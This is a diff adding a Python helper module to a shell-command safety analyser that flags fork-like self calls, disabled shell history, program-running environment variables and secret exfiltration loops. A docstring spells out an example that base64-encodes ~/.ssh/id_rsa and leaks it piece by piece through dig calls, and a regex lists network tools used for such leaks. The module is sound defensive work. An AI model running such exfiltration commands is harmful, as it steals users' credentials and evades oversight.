@@ -1,0 +1,136 @@
+"""Small facts about parsed commands that the analyser's walk asks for."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+
+from tree_sitter import Node
+
+from tui.core.safety import resolve
+from tui.core.safety.feeds import command_name, literal_output
+from tui.core.safety.parse import Command, assignment, build_command
+from tui.core.safety.words import Word, node_text
+
+
+def pattern_forms(layers: list[Command]) -> tuple[str, ...]:
+    """One simple command as allow and deny patterns see it: each layer (as written, then with
+    each wrapper taken off), with its program named as written and by its base name, its words
+    unquoted (`\\docker`, `"docker"` and `/usr/bin/docker` are all `docker`), leading
+    assignments left out (they are not words)."""
+    forms: list[str] = []
+    for layer in layers:
+        if not layer.words:
+            continue
+        args = [word.value for word in layer.args]
+        first = layer.words[0].value.lstrip("\\")
+        for name in (first, layer.name):
+            forms.append(" ".join([name, *args]))
+    return tuple(dict.fromkeys(" ".join(form.split()) for form in forms if form.strip()))
+
+
+def stage_command_node(stage: Node) -> Node | None:
+    if stage.type == "command":
+        return stage
+    if stage.type == "redirected_statement":
+        body = stage.child_by_field_name("body")
+        if body is not None and body.type == "command":
+            return body
+    return None
+
+
+def self_calls(body: Node, name: str) -> tuple[int, bool]:
+    """(calls of `name` in a function body, whether one runs in the background or is piped
+    into another call of itself)."""
+    calls = 0
+    spawning = False
+    stack = [(body, False)]
+    visits = 0
+    while stack and visits < 5_000:
+        node, background = stack.pop()
+        visits += 1
+        if node.type == "pipeline":
+            names = [command_name(c) for c in node.children if c.type == "command"]
+            spawning = spawning or names.count(name) >= 2
+        elif node.type == "command" and command_name(node) == name:
+            calls += 1
+            spawning = spawning or background
+        children = node.children
+        inherits = background and node.type in ("pipeline", "redirected_statement")
+        for index, child in enumerate(children):
+            after = children[index + 1].type if index + 1 < len(children) else ""
+            stack.append((child, inherits or after == "&"))
+    return calls, spawning
+
+
+def bare(parent: Node | None) -> bool:
+    """True when an assignment stands alone (not `VAR=x cmd`, not `export VAR=x`)."""
+    return parent is None or parent.type not in ("command", "declaration_command")
+
+
+def disables_history(name: str, value: Word) -> bool:
+    if name == "HISTFILE":
+        return value.value in ("", "/dev/null")
+    return value.value.strip() in ("0", "")
+
+
+# Variables whose value a program runs as a command.
+PROGRAM_VARIABLES = frozenset(
+    "PAGER GIT_PAGER MANPAGER LESSOPEN LESSCLOSE EDITOR VISUAL GIT_EDITOR SUDO_EDITOR "
+    "GIT_SSH GIT_SSH_COMMAND GIT_ASKPASS SSH_ASKPASS BROWSER SYSTEMD_PAGER PSQL_PAGER "
+    "GIT_EXTERNAL_DIFF GIT_PROXY_COMMAND RSYNC_RSH".split()
+)
+
+
+INTERACTIVE_EDITORS = frozenset("vi vim nvim nano emacs micro pico joe mcedit code gedit".split())
+
+
+def program_variables(node: Node) -> list[tuple[str, str]]:
+    """(name, code) for each `VAR=value` before a command whose value the program runs."""
+    found: list[tuple[str, str]] = []
+    for child in node.children:
+        if child.type != "variable_assignment":
+            continue
+        name, value = assignment(child)
+        code = value.value.lstrip("|").replace("%s", "").strip()
+        if name in PROGRAM_VARIABLES and code:
+            found.append((name, code))
+    return found
+
+
+_NETWORK_CALLS = re.compile(r"\b(dig|nslookup|host|drill|ping|curl|wget|nc)\b")
+
+
+def loop_flow(node: Node, kinds_of: Callable[[tuple[Node, ...]], frozenset[str]]) -> str | None:
+    """`for x in $(base64 ~/.ssh/id_rsa | fold); do dig $x.host; done`: a secret sent piece by
+    piece, one network call per loop."""
+    values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
+    body = node.child_by_field_name("body")
+    if not values or body is None or "secret" not in kinds_of(tuple(values)):
+        return None
+    if kinds_of((body,)) & {"network", "send", "download"} or _NETWORK_CALLS.search(
+        node_text(body)
+    ):
+        return "sends secrets or personal data to another machine, piece by piece"
+    return None
+
+
+def stage_commands(stage: Node, parent: Node) -> list[Command]:
+    """The simple commands of one pipeline stage (not those inside substitutions)."""
+    found: list[Command] = []
+    stack = [(stage, parent)]
+    while stack and len(found) < 16:
+        node, above = stack.pop()
+        if node.type == "command":
+            found.append(build_command(node, above))
+        elif node.type not in ("command_substitution", "process_substitution"):
+            stack.extend((child, node) for child in reversed(node.children))
+    return found
+
+
+def quietly_resolved(command: Command, variables: dict[str, str]) -> Command:
+    """The command with its name resolved where the line says it, adding no findings."""
+    if not command.words or not resolve.needs_resolving(command.words[0]):
+        return command
+    texts = [literal_output(node) for node in command.words[0].substitutions]
+    return resolve.resolve(command, variables, texts) or command
